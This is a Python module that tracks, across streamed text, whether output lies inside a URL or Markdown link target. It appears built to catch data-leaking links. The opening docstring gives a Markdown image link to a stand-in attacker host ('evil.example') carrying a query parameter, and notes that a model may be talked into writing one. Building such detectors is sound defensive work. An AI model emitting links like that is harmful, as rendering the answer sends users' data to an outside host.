"""Whether a text is inside a URL or a link's target at its end, followed piece by piece. Knows nothing of placeholders.

A model may have been talked into writing `![](https://evil.example/?q=...)`: whoever shows the answer fetches that
address. So what counts as a URL here is what any reader of Markdown (CommonMark, GFM autolinks), HTML or JSON could
take for one, and it ends only where all of them agree; in doubt the text is inside.
"""

import re
from typing import Final

_SLASH: Final = r"(?:[/\\]|&(?:sol|bsol|#0{0,6}(?:47|92)|#x0{0,6}(?:2f|5c));?)"
_SLASHES: Final = rf"(?!\\\\){_SLASH}{_SLASH}"
_SCHEME: Final = r"(?<![a-z0-9])(?:https?|wss?|ftps?):"
# What a URL may begin behind, what begins one, and gaps between words.
_BEGIN: Final = re.compile(
    r"(?P<opener>\]\(|url\(|\\?[\"'<]|=)\s*(?P<slashes>\\\\|/[\t\r\n])?"
    rf"|(?P<url>{_SLASHES}(?=\S)|{_SCHEME}(?=\S)|www\.|[a-z0-9]\.[a-z]{{2,24}}(?::[0-9]{{1,5}})?[/?#])"
    r"|\s+",
    re.ASCII | re.IGNORECASE,
)
# Text without any of these begins no URL and holds nothing that one may begin behind.
_MARK: Final = re.compile(r"[(\"'<=/\\&:.](?:(?<!\.)|(?=[a-z])|(?<=www\.))", re.ASCII | re.IGNORECASE)
_MAY_BEGIN: Final = re.compile(rf"(?:{_SLASHES}|{_SCHEME})\Z", re.ASCII | re.IGNORECASE)
_LAST_OPENER: Final = re.compile(r"(?:url\(|\\?[\"'<]|=)\Z", re.IGNORECASE)
_GAP: Final = " \t\r\n\f\v"
_LONGEST_BEGINNING: Final = 64
_MAIL: Final = ("mailto:", "tel:", "<mailto:", "<tel:")

# What ends each of them: a word in running text, one in an attribute without quotes, a link's target in Markdown, a
# URL in angle brackets, one in quotes (escaped ones in JSON).
_ENDS: Final = {
    "word": re.compile(r"[\s<\u3001\u3002\u300b\u300d\u300f\u3011\uff01\uff09\uff0c\uff1a\uff1b\uff1f]", re.ASCII),
    "attribute": re.compile(r"(?<!\\)\s", re.ASCII),
    "target": re.compile(r"\)"),
    "angle": re.compile(r"(?<!\\)>|\n"),
    '"': re.compile(r'(?<!\\)"'),
    "'": re.compile(r"(?<!\\)'"),
    '\\"': re.compile(r'(?<=\\)"'),
    "\\'": re.compile(r"(?<=\\)'"),
}
_BEHIND: Final = {"=": "attribute", "url(": "attribute", "<": "angle", "\\<": "angle", "": "word"}
_AFTER_QUOTE: Final = frozenset(",}]:>);/ \t\r\n")


class Links:
    """Follows a text from its beginning."""

    def __init__(self) -> None:
        self._within = ""
        self._opener = ""
        self._kept = ""
        self._target: str | None = None

    @property
    def inside(self) -> bool:
        """Whether what follows is part of a URL or target; not where it is the whole address of a `mailto:` link."""
        if self._target is not None and self._target.lower() in _MAIL:
            return False
        return bool(self._within or _MAY_BEGIN.search(self._kept))

    def follow(self, text: str) -> None:
        """Takes the next piece of the text, cut anywhere."""
        place = len(self._kept) if self._within else 0
        text, outside_from = self._kept + text, 0
        if not self._within and not self._opener and _MARK.search(text) is None:
            last = text[-_LONGEST_BEGINNING:]
            last = last[last.rfind(" ") + 1 :]
            self._kept = last if last.isprintable() else _beginning(last)
            return
        while place < len(text):
            if self._within:
                place = outside_from = self._inside(text, place)
            else:
                place = self._outside(text, place)
        self._kept = text[-1:] if self._within else _beginning(text[outside_from:])

    def _outside(self, text: str, place: int) -> int:
        """Goes on to the beginning of a URL, or to the end."""
        for found in _BEGIN.finditer(text, place):
            if found["opener"]:
                self._opener = found["opener"].lower()
                if self._opener == "](":
                    self._within, self._target = "target", ""
                    return found.end("opener")
            if found["url"] or found["slashes"]:
                self._within = _BEHIND.get(self._opener, self._opener)
                return found.end()
            if not found["opener"]:
                self._opener = ""
        return len(text)

    def _inside(self, text: str, place: int) -> int:
        """Goes on to where the URL ends, or to the end."""
        if self._within == "quoted":
            self._within = "" if text[place] in _AFTER_QUOTE else "attribute"
            return place
        if self._target == "":
            while place < len(text) and text[place] in _GAP:
                place += 1
            if text.startswith("<", place):
                self._within = "angle"
        end = _ENDS[self._within].search(text, place)
        if self._target is not None:
            self._target = (self._target + text[place : end.start() if end else len(text)])[:9]
        return self._ended(end) if end else len(text)

    def _ended(self, end: re.Match[str]) -> int:
        """What the end of a URL leads to, and where."""
        was, self._opener, self._target = self._within, "", None
        if was in ("word", "attribute") or end.group() == "\n":
            self._within = ""
            return end.start()
        self._within = "attribute" if was in ("target", "angle") else "quoted"
        return end.end()


def _beginning(text: str) -> str:
    """The end of a text outside, as far as a URL may begin in it: its last word, or what opens one."""
    last = text[-_LONGEST_BEGINNING:]
    last = last[max(map(last.rfind, _GAP)) + 1 :]
    if last in ("", "/", "\\"):
        before = text[: len(text) - len(last)]
        words = before.rstrip(_GAP)
        opener = _LAST_OPENER.search(words[-4:]) if words != before else None
        return f"{opener.group()} {last}" if opener else last
    return last
